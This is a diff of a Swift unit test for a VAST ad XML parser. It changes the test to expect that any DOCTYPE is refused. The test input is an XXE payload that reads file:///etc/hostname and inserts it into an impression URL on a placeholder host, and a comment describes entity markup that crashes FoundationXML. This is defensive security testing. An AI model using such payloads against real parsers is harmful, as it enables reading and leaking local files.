@@ -137,24 +137,27 @@ struct VASTParserTests {
         #expect(error?.vastErrorCode == 100)
     }
 
-    @Test("external entities are never loaded")
+    @Test("a DOCTYPE is refused, so no entity, external or internal, is ever loaded or expanded")
     func externalEntities() throws {
+        // Refused since the fuzzing of 2026-12-01: an entity's replacement text can hold markup
+        // (`&#60;?pi?&#62;` is `<?pi?>` once referenced) that FoundationXML's callbacks crash on
+        // (see FoundationXMLInput); a VAST document has no use for a DTD.
+        let error = #expect(throws: PrerollAdError.self) {
+            try VASTParser.parse(
+                Data(
+                    """
+                    <?xml version="1.0"?>
+                    <!DOCTYPE VAST [<!ENTITY host SYSTEM "file:///etc/hostname">]>
+                    <VAST version="3.0"><Ad id="a"><InLine>
+                      <Impression>http://ads.invalid/i?h=&host;</Impression><AdTitle>&host;</AdTitle>
+                      <Creatives><Creative><Linear/></Creative></Creatives>
+                    </InLine></Ad></VAST>
+                    """.utf8))
+        }
+        #expect(error?.code == .malformedVAST)
         let hostname = try String(contentsOfFile: "/etc/hostname", encoding: .utf8)
             .trimmingCharacters(in: .whitespacesAndNewlines)
-        let document = try VASTParser.parse(
-            Data(
-                """
-                <?xml version="1.0"?>
-                <!DOCTYPE VAST [<!ENTITY host SYSTEM "file:///etc/hostname">]>
-                <VAST version="3.0"><Ad id="a"><InLine>
-                  <Impression>http://ads.invalid/i?h=&host;</Impression><AdTitle>&host;</AdTitle>
-                  <Creatives><Creative><Linear/></Creative></Creatives>
-                </InLine></Ad></VAST>
-                """.utf8))
-        let ad = try #require(document.ads.first)
-        #expect(!hostname.isEmpty)
-        #expect(ad.title == nil)
-        #expect(ad.impressions == ["http://ads.invalid/i?h="])
+        #expect(!hostname.isEmpty && error?.message.contains(hostname) != true)
     }
 
     @Test("versions other than 2, 3 and 4 are configuration errors (102)", arguments: ["1.0", "5.0", "x"])
